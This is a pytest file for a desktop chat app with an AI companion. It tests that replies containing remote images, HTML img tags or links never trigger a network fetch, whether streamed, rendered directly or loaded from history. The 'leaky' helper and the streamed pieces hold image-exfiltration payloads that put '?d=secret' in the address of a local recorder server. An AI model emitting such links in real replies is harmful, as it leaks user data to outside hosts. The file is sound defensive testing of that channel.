"""Rendering a reply never fetches remote content: not while it streams, not once it ends, not from history.

A local HTTP server records every request; a reply whose Markdown asks for an
image from it (with data in the address, as an exfiltration would) must leave
it untouched.
"""

import http.server
import threading
import urllib.request

import pytest
from PySide6.QtCore import Qt
from PySide6.QtWidgets import QApplication

from tests.ui.conftest import send
from ui import theme
from ui.chat.rich_text import render
from ui.chat.transcript import Bubble


@pytest.fixture
def server():
    """A server on 127.0.0.1 that records the path of every request, one request at a time, in the order they
    came; yields (address, hits)."""
    hits = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()

        def log_message(self, *args):
            pass

    httpd = http.server.HTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    address = f"http://127.0.0.1:{httpd.server_address[1]}"
    urllib.request.urlopen(f"{address}/alive").close()  # the recorder records: a fetch would be seen
    assert hits == ["/alive"]
    hits.clear()
    yield address, hits
    httpd.shutdown()
    httpd.server_close()
    thread.join()


def fetched_by(widget, address: str, hits: list[str]) -> list[str]:
    """What rendering `widget` fetched: it is painted now (a grab lays out and paints its whole document, loading
    whatever it names), then a request of our own goes to the server, which serves requests one at a time in the
    order they came: once it has answered ours, it has seen any request the render made."""
    widget.grab()
    QApplication.processEvents()  # anything the render left to the event loop
    urllib.request.urlopen(f"{address}/fence", timeout=30).close()
    assert hits.pop() == "/fence"
    return list(hits)


def leaky(address: str) -> str:
    return (
        f'Here you go ![x]({address}/leak?d=secret) and <img src="{address}/html?d=secret"> '
        f"and [a link]({address}/link?d=secret) **done**"
    )


def test_a_streamed_reply_with_a_remote_image_fetches_nothing(qtbot, window, server, screenshot):
    address, hits = server
    c = window.companion
    c.chat.delay = 0.03  # slow enough that the bubble renders while the reply streams
    pieces = [
        "Here ",
        "you ",
        "go. ",
        f"![x]({address}/leak?d=secret) ",
        f'<img src="{address}/html?d=secret"> ',
        f"[a link]({address}/link?d=secret) ",
        "**done**",
    ]
    c.chat.enqueue(pieces)
    renders = []
    window.input.setFocus()
    qtbot.keyClicks(window.input, "show me")
    qtbot.keyClick(window.input, Qt.Key_Return)
    qtbot.waitUntil(lambda: window.transcript.streaming is not None, timeout=5_000)
    bubble = window.transcript.streaming
    # What it shows: its finished paragraphs, and the one being written below them (Bubble.stream).
    window.worker.piece.connect(
        lambda _: renders.append(bubble.label.text() + (bubble.tail.text() if bubble.tail else ""))
    )
    qtbot.waitUntil(lambda: window.worker is None and bubble.message_id is not None, timeout=10_000)
    assert len(set(renders)) > 1  # it rendered while streaming
    assert fetched_by(window, address, hits) == []
    stored = c.soul.query("SELECT content FROM messages WHERE id = ?", (bubble.message_id,))[0]["content"]
    assert bubble.text == stored  # the reply as stored (turn.text), not as streamed
    assert bubble.label.text() == render(stored, theme.current()).html
    assert address not in stored and "[image not shown: x]" in stored and "a link" in stored
    screenshot(window, "chat-reply-without-remote-image")


def test_a_bubble_never_loads_a_remote_resource_even_from_raw_markup(qtbot, server):
    """The render itself: a reply stored before replies were cleaned, loaded from history, fetches nothing."""
    address, hits = server
    for role in ("companion", "user"):
        bubble = Bubble(role, leaky(address), 1)
        qtbot.addWidget(bubble)
        bubble.show()
        qtbot.waitExposed(bubble)
        assert bubble.label.textFormat() == Qt.RichText
        assert "<img" not in bubble.label.text() and "&lt;img" in bubble.label.text()  # raw markup shown as text
        assert fetched_by(bubble, address, hits) == []


def test_history_with_a_remote_image_fetches_nothing(qtbot, fake_companion, server):
    from anima.settings import Settings
    from ui.window import MainWindow

    address, hits = server
    fake_companion.messages.record("companion", leaky(address))
    w = MainWindow(fake_companion, Settings())
    qtbot.addWidget(w)
    w.show()
    qtbot.waitUntil(lambda: len(w.transcript.bubbles) == 1, timeout=10_000)
    assert fetched_by(w, address, hits) == []


def test_a_reply_that_streams_normally_ends_as_streamed(qtbot, window):
    window.companion.chat.enqueue("**Yes**, a plain reply.")
    reply = send(qtbot, window, "hello")
    assert reply.text == "**Yes**, a plain reply."
